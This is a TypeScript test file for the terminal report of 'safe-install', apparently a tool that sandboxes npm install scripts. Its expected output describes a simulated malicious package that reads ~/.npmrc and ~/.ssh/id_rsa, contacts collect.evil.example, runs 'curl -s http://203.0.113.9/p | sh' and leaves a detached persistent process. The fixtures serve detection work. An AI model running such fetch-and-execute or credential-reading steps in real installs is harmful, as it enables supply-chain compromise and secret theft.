import { test } from 'node:test';
import assert from 'node:assert/strict';
import { assess } from '../../src/rules/index.js';
import { buildJsonReport, type JsonReport } from '../../src/report/json.js';
import { renderTerminal } from '../../src/report/terminal.js';
import { buildScan } from './fixture.js';

function scanReport(edit?: (scan: ReturnType<typeof buildScan>) => void): JsonReport {
  const scan = buildScan();
  edit?.(scan);
  return buildJsonReport({ chain: scan.chain, assessment: assess(scan.chain), tool: { name: 'safe-install', version: '0.1.0' } });
}

const plain = renderTerminal(scanReport(), { color: false, verbose: false });
const lines = plain.split('\n');

function lineWith(text: string, from: readonly string[] = lines): string {
  const line = from.find((l) => l.includes(text));
  assert.ok(line !== undefined, `no line contains ${JSON.stringify(text)} in:\n${from.join('\n')}`);
  return line;
}

test('terminal: package headers carry the verdict, worst packages first', () => {
  const headers = lines.filter((l) => /^\S+@\S+  [A-Z]+/.test(l));
  assert.deepEqual(headers, [
    'evil-helper@2.1.0  BLOCK',
    'slow-pkg@0.3.0  BLOCK  (node_modules/native-addon/node_modules/slow-pkg)',
    'native-addon@1.4.0  ALLOW',
  ]);
});

test('terminal: one line per finding with severity, rule, message and evidence ids, most severe first', () => {
  assert.equal(lineWith('reads ~/.npmrc (npm credentials)'), '  medium   credential-access      reads ~/.npmrc (npm credentials)  [f15]');
  assert.match(lineWith('connects to collect.evil.example'), /^ {2}medium {3}network-egress {9}connects to collect\.evil\.example \(192\.0\.2\.1:443\): 2 attempts, ENETUNREACH — the policy line that allows it: packages: \{ "evil-helper@2\.1\.0": \{ allowEgress: \["collect\.evil\.example"\] \} \} {2}\[n2, n3, d1\]$/);
  assert.match(lineWith('timeout '), /^ {2}high {5}timeout {2}postinstall script \(node wait\.js\) did not finish: exceeded the 60 s limit {2}\[s3, p9\]$/);
  const severities = lines.slice(1, lines.indexOf('  postinstall: node install.js  (exit 0, 0.42 s)')).map((l) => l.trim().split(/\s+/)[0]);
  assert.deepEqual(severities, ['critical', 'high', 'high', 'medium', 'medium', 'medium', 'medium', 'medium', 'info']);
});

test('terminal: scripts show outcome and duration', () => {
  lineWith('  postinstall: node install.js  (exit 0, 0.42 s)');
  lineWith('  install: node-gyp rebuild  (exit 0, 12.5 s)');
  lineWith('  postinstall: node wait.js  (timed out after 60.0 s: exceeded the 60 s limit)');
});

test('terminal: the process tree uses box-drawing characters and nests children', () => {
  const start = lines.indexOf('  └─ node install.js');
  assert.ok(start > 0, plain);
  assert.deepEqual(lines.slice(start, start + 15), [
    '  └─ node install.js',
    '     ├─ reads 14 files in its package',
    '     ├─ reads ~/.npmrc',
    '     ├─ fails to read ~/.ssh/id_rsa (ENOENT)',
    '     ├─ looks up collect.evil.example (A → 192.0.2.1)',
    '     ├─ connects 192.0.2.1:443 (collect.evil.example; ENETUNREACH)  ×2',
    "     ├─ /bin/sh -c 'curl -s http://203.0.113.9/p | sh'",
    '     │  ├─ curl -s http://203.0.113.9/p  (exit 7)',
    '     │  │  └─ connects 203.0.113.9:80 (ENETUNREACH)',
    '     │  └─ sh',
    "     ├─ node -e 'setInterval(() => {}, 1000)'  (still running after script — killed)  (detached)",
    '     │  └─ writes ~/.config/evil/state.json',
    '     └─ writes build/result.json',
    '',
    'slow-pkg@0.3.0  BLOCK  (node_modules/native-addon/node_modules/slow-pkg)',
  ]);
});

test('terminal: repeated events fold into counts by area; evidence and small groups stay listed', () => {
  lineWith('├─ writes 30 files in temp dirs');
  lineWith('├─ reads 6 files in its package');
  lineWith('└─ fails to read /usr/include/stdio.h (ENOENT)');
  lineWith('└─ creates build/Release/addon.node 755');
  assert.ok(!plain.includes('lib/part3.js'));
  assert.ok(!plain.includes('nscd'), 'unix sockets are noise unless verbose');
});

test('terminal: quiet packages collapse into one line, and it ends with the overall verdict', () => {
  lineWith('23 packages have no install-time code');
  assert.equal(lines.at(-2), 'Verdict: BLOCK  (2 packages blocked, 0 to review, 24 allowed)');
  assert.equal(lines.at(-1), '');
});

test('terminal: verbose lists every event with its ids and shows exec history', () => {
  const verbose = renderTerminal(scanReport(), { color: false, verbose: true }).split('\n');
  lineWith('├─ reads lib/part3.js  [f4]', verbose);
  lineWith('├─ connects unix:/var/run/nscd/socket (ENOENT)  [n1]', verbose);
  lineWith("└─ node install.js  (exec'd from sh -c 'node install.js')  [p1 pid 100]", verbose);
  lineWith('(312 loader and library file events not shown)', verbose);
  assert.equal(verbose.filter((l) => l.includes('include/node/h')).length, 30);
});

test('terminal: long argv is quoted and capped; width cuts tree lines', () => {
  const report = scanReport(({ stealer }) => {
    stealer.process(['node', '-e', `require("x")${' '.repeat(10)}${'a'.repeat(200)}`]);
  });
  const text = renderTerminal(report, { color: false, verbose: false });
  const line = lineWith(`node -e 'require("x")`, text.split('\n'));
  assert.ok(line.endsWith('…'));
  assert.ok(line.length <= '     ├─ '.length + 100);

  const narrow = renderTerminal(scanReport(), { color: false, verbose: false, width: 50 }).split('\n');
  for (const l of narrow.filter((x) => /[├└]─/.test(x))) assert.ok(l.length <= 50, l);
});

test('terminal: colour is only added on request, and rendering is deterministic', () => {
  assert.ok(!plain.includes('\u001b['));
  const coloured = renderTerminal(scanReport(), { color: true, verbose: false });
  assert.ok(coloured.includes('\u001b[31m'), 'block/high in red');
  assert.equal(coloured.replace(/\u001b\[[0-9;]*m/g, ''), plain);
  assert.equal(renderTerminal(scanReport(), { color: false, verbose: false }), plain);
});

test('terminal: a clean tree says so in two lines', () => {
  const report = scanReport(({ chain }) => {
    chain.packages.splice(0, 3);
  });
  assert.equal(renderTerminal(report, { color: false, verbose: false }), '23 packages have no install-time code\nVerdict: ALLOW  (0 packages blocked, 0 to review, 23 allowed)\n');
});

test('terminal: declared scripts that never ran and sandbox errors are shown', () => {
  const report = scanReport(({ chain, slow }) => {
    chain.packages[1]!.info.scripts.preinstall = 'node pre.js';
    chain.errors.push({ message: 'container exited with 137', scriptId: slow.run.id });
  });
  const out = renderTerminal(report, { color: false, verbose: false }).split('\n');
  lineWith('  preinstall: node pre.js  (not run)', out);
  lineWith('Sandbox errors:', out);
  lineWith('  - container exited with 137 (script s3)', out);
});
